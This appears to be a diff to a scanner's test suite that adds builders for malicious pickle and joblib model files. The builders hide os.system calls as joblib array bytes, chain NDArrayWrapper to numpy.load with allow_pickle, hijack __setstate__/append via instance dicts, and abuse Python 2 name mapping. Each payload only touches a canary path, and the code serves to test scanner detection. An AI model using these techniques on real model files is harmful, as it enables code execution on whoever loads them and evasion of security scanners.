@@ -83,10 +83,10 @@ class Technique:
     ``build(directory, canary)`` writes the hostile file into ``directory`` (it chooses the
     file name, so mislabelled extensions can be exercised) and returns its path. Loading the
     file with ``loader`` creates ``canary`` (a file, or for a few write primitives a
-    directory); with ``effect="delete"`` the caller creates ``canary`` as a non-empty
-    directory after building, and loading deletes it. ``expected_globals`` lists acceptable
-    names for the global a scanner must report with one of ``severities`` (any one of them is
-    enough).
+    directory; ``canary`` + ``canary_suffix`` when the primitive appends a suffix); with
+    ``effect="delete"`` the caller creates ``canary`` as a non-empty directory after
+    building, and loading deletes it. ``expected_globals`` lists acceptable names for the
+    global a scanner must report with one of ``severities`` (any one of them is enough).
     """
 
     name: str
@@ -98,6 +98,13 @@ class Technique:
     severities: tuple[str, ...] = ("dangerous",)
     """Acceptable severities for the expected finding (``"dangerous"`` unless stated)."""
     effect: Effect = "create"
+    canary_suffix: str = ""
+    """The payload creates ``canary`` plus this suffix (``numpy.savez`` appends ``.npz`` to
+    the path it is given); only meaningful with ``effect="create"``."""
+
+    def created(self, canary: Path) -> Path:
+        """The path a ``create`` payload makes when given ``canary``."""
+        return canary.with_name(canary.name + self.canary_suffix)
 
 
 # --------------------------------------------------------------------------------------------
@@ -783,6 +790,167 @@ def build_numpy_datasource_del_rmtree(directory: Path, canary: Path) -> Path:
 
 
 # --------------------------------------------------------------------------------------------
+# Reader divergences found in review: bytes that joblib's own unpickler reads as array data but
+# another reader (plain pickle, joblib's object-array reader, numpy.load) runs as opcodes;
+# methods planted in an instance dict; Python 2 name mapping switched by a later PROTO.
+
+
+def op_numpy_array_wrapper(n_bytes: int) -> bytes:
+    """NEWOBJ + BUILD of a joblib NumpyArrayWrapper for ``n_bytes`` uint8, without alignment.
+
+    joblib's NumpyUnpickler reads the ``n_bytes`` that follow as the array's raw data (there is
+    no ``numpy_array_alignment_bytes`` attribute, so no padding byte either). Any plain pickle
+    reader sees an ordinary object and goes on to run those bytes as opcodes.
+    """
+    dtype = op_call(op_global("numpy", "dtype"), op_str("|u1"), b"\x89", b"\x88")
+    state = (
+        b"}("
+        + op_str("subclass")
+        + op_global("numpy", "ndarray")
+        + op_str("shape")
+        + op_tuple(op_int(n_bytes))
+        + op_str("order")
+        + op_str("C")
+        + op_str("dtype")
+        + dtype
+        + op_str("allow_mmap")
+        + b"\x88"
+        + b"u"
+    )
+    return op_global("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + state + b"b"
+
+
+def op_ndarray_wrapper(filename: str) -> bytes:
+    """NEWOBJ + BUILD of a joblib<0.10 ``NDArrayWrapper`` naming ``filename``.
+
+    joblib's NumpyUnpickler replaces it by ``numpy.load(<dir of the file>/filename,
+    allow_pickle=True)``: a plain ``pickle.load`` of whatever file that is.
+    """
+    state = (
+        b"}("
+        + op_str("filename")
+        + op_str(filename)
+        + op_str("subclass")
+        + op_global("numpy", "ndarray")
+        + op_str("allow_mmap")
+        + b"\x88"
+        + b"u"
+    )
+    return op_global("joblib.numpy_pickle_compat", "NDArrayWrapper") + b")\x81" + state + b"b"
+
+
+def _opcodes_as_array_bytes(canary: Path) -> bytes:
+    """A NumpyArrayWrapper whose "array data" is ``os.system(cmd)`` + POP.
+
+    Pushes one object for every reader: the array (joblib's NumpyUnpickler) or the wrapper
+    object, after the call ran (plain pickle).
+    """
+    payload = op_call(op_global("posix", "system"), op_str(_shell_cmd(canary))) + b"0"
+    return op_numpy_array_wrapper(len(payload)) + payload
+
+
+def build_object_array_nested_array_wrapper_bytes(directory: Path, canary: Path) -> Path:
+    # joblib stores an object-dtype array as a nested protocol-5 pickle and reads it with a
+    # *plain* Unpickler: a NumpyArrayWrapper inside it does not consume the bytes after its
+    # BUILD, which therefore run as opcodes under joblib.load.
+    fragment = _opcodes_as_array_bytes(canary)
+    check_fragment(fragment)
+    placeholder, padded = _placeholder_for(fragment, 5)
+    notes = np.empty(3, dtype=object)
+    notes[0] = "feature_a"
+    notes[1] = placeholder
+    notes[2] = 3
+    model = fresh_model("logreg")
+    model.feature_notes_ = notes
+    path = directory / "model.joblib"
+    joblib.dump(model, path, protocol=4)
+    return _write(path, splice_fragment(path.read_bytes(), placeholder, padded, 5))
+
+
+def build_plain_pickle_array_wrapper_bytes(directory: Path, canary: Path) -> Path:
+    # A plain model pickle holding a NumpyArrayWrapper (no alignment byte) followed by opcodes:
+    # a reader with joblib's semantics skips them as array data, pickle.load runs them.
+    # Protocol 2 (unframed), as joblib's array reads bypass pickle framing.
+    return _spliced_model_file(
+        directory / "model.pkl", _opcodes_as_array_bytes(canary), container="pickle", protocol=2
+    )
+
+
+def build_ndarraywrapper_sidecar_pickle(directory: Path, canary: Path) -> Path:
+    # A joblib<0.10-style file: the model's attribute is an NDArrayWrapper naming a sidecar
+    # "model.joblib_01.npy" next to it; joblib.load runs numpy.load(sidecar, allow_pickle=True),
+    # and the sidecar is a pickle calling os.system. (The sidecar is written first.)
+    from joblib.numpy_pickle_compat import NDArrayWrapper
+
+    sidecar = directory / "model.joblib_01.npy"
+    _write(sidecar, pickle.dumps(Call(os.system, _shell_cmd(canary)), protocol=2))
+    model = _with_payload("logreg", NDArrayWrapper(sidecar.name, np.ndarray, allow_mmap=False))
+    path = directory / "model.joblib"
+    joblib.dump(model, path)
+    return path
+
+
+def build_ndarraywrapper_self_reference(directory: Path, canary: Path) -> Path:
+    # One self-contained file: the NDArrayWrapper names the file itself, so joblib.load runs a
+    # plain pickle.load of the same bytes, in which the following NumpyArrayWrapper's "array
+    # data" (skipped by joblib's own reader) runs as opcodes. The tuple pushes one object.
+    filename = "model.joblib"
+    fragment = b"(" + op_ndarray_wrapper(filename) + _opcodes_as_array_bytes(canary) + b"t"
+    return _spliced_model_file(directory / filename, fragment, container="pickle", protocol=2)
+
+
+def _estimator_with_planted_hook(hook: str, func: tuple[str, str], argument: bytes) -> bytes:
+    """NEWOBJ LinearRegression (a known class), then BUILD ``{hook: func}`` plants ``func`` in
+    its instance dict, which shadows the class: the next BUILD calls ``inst.__setstate__``,
+    APPEND calls ``inst.append``. ``argument`` is the opcode sequence that triggers it."""
+    estimator = op_global("sklearn.linear_model._base", "LinearRegression") + b")\x81"
+    hijack = b"}(" + op_str("fit_intercept") + b"\x88" + op_str(hook) + op_global(*func) + b"ub"
+    return estimator + hijack + argument
+
+
+def build_known_class_setstate_savez_compressed(directory: Path, canary: Path) -> Path:
+    # BUILD "canary" -> numpy.savez_compressed("canary") writes canary.npz.
+    fragment = _estimator_with_planted_hook(
+        "__setstate__", ("numpy", "savez_compressed"), op_str(str(canary)) + b"b"
+    )
+    return _spliced_model_file(directory / "model.pkl", fragment, container="pickle", protocol=4)
+
+
+def build_known_class_append_npyio_savez(directory: Path, canary: Path) -> Path:
+    # APPEND "canary" -> numpy.lib._npyio_impl.savez("canary") writes canary.npz.
+    fragment = _estimator_with_planted_hook(
+        "append", ("numpy.lib._npyio_impl", "savez"), op_str(str(canary)) + b"a"
+    )
+    return _spliced_model_file(directory / "model.joblib", fragment, container="joblib", protocol=4)
+
+
+def _dumbdbm_gadget(canary: Path) -> bytes:
+    """``dbm.dumb._Database`` spelled with its Python 2 name (mapped only while proto < 3)."""
+    state = {
+        "_index": {},
+        "_modified": True,
+        "_dirfile": str(canary),
+        "_bakfile": str(canary) + ".bak",
+        "_mode": 0o644,
+    }
+    return op_global("dumbdbm", "_Database") + b")\x81" + op_lit(state) + b"b"
+
+
+def build_compat_pickle_late_proto2(directory: Path, canary: Path) -> Path:
+    # A protocol-4 joblib stream switches to PROTO 2 for the gadget (pickle maps names by the
+    # *current* protocol: "dumbdbm" becomes dbm.dumb), then back to PROTO 4.
+    fragment = b"\x80\x02" + _dumbdbm_gadget(canary) + b"\x80\x04"
+    return _spliced_model_file(directory / "model.joblib", fragment, container="joblib", protocol=4)
+
+
+def build_compat_pickle_proto4_opcode_in_proto2(directory: Path, canary: Path) -> Path:
+    # A protocol-2 pickle using one protocol-4 opcode (SHORT_BINUNICODE + POP) before the
+    # gadget: the stream's opcodes reach protocol 4 but PROTO is still 2, so names are mapped.
+    fragment = b"\x8c\x01x0" + _dumbdbm_gadget(canary)
+    return _spliced_model_file(directory / "model.pkl", fragment, container="pickle", protocol=2)
+
+
+# --------------------------------------------------------------------------------------------
 # Registry
 
 EXEC: tuple[str, ...] = ("builtins.exec", "__builtin__.exec")
@@ -1114,5 +1282,65 @@ TECHNIQUES: list[Technique] = [
         severities=CALL_SEVERITIES,
         effect="delete",
         description="NEWOBJ+BUILD numpy DataSource; its __del__ rmtree()s an attacker path",
+    ),
+    Technique(
+        "object_array_nested_array_wrapper_bytes",
+        build_object_array_nested_array_wrapper_bytes,
+        OS_SYSTEM,
+        "joblib",
+        description="NumpyArrayWrapper in an object-array pickle; its 'array bytes' are opcodes",
+    ),
+    Technique(
+        "plain_pickle_array_wrapper_bytes",
+        build_plain_pickle_array_wrapper_bytes,
+        OS_SYSTEM,
+        "pickle",
+        description="model pickle: unaligned NumpyArrayWrapper, then opcodes pickle.load runs",
+    ),
+    Technique(
+        "ndarraywrapper_sidecar_pickle",
+        build_ndarraywrapper_sidecar_pickle,
+        ("joblib.numpy_pickle_compat.NDArrayWrapper",),
+        "joblib",
+        description="joblib<0.10 NDArrayWrapper: np.load(sidecar, allow_pickle=True)",
+    ),
+    Technique(
+        "ndarraywrapper_self_reference",
+        build_ndarraywrapper_self_reference,
+        ("joblib.numpy_pickle_compat.NDArrayWrapper",),
+        "joblib",
+        description="NDArrayWrapper naming its own file: np.load runs the wrapper's array bytes",
+    ),
+    Technique(
+        "known_class_setstate_savez_compressed",
+        build_known_class_setstate_savez_compressed,
+        ("numpy.savez_compressed",),
+        "pickle",
+        canary_suffix=".npz",
+        description="LinearRegression instance __setstate__ = numpy.savez_compressed, BUILD",
+    ),
+    Technique(
+        "known_class_append_npyio_savez",
+        build_known_class_append_npyio_savez,
+        ("numpy.lib._npyio_impl.savez",),
+        "joblib",
+        canary_suffix=".npz",
+        description="LinearRegression instance append = numpy.lib._npyio_impl.savez, APPEND",
+    ),
+    Technique(
+        "compat_pickle_late_proto2",
+        build_compat_pickle_late_proto2,
+        ("dbm.dumb._Database",),
+        "joblib",
+        severities=CALL_SEVERITIES,
+        description="PROTO 4 ... PROTO 2 'dumbdbm _Database' (maps to dbm.dumb) ... PROTO 4",
+    ),
+    Technique(
+        "compat_pickle_proto4_opcode_in_proto2",
+        build_compat_pickle_proto4_opcode_in_proto2,
+        ("dbm.dumb._Database",),
+        "pickle",
+        severities=CALL_SEVERITIES,
+        description="PROTO 2 stream with a protocol-4 opcode, then 'dumbdbm _Database'",
     ),
 ]
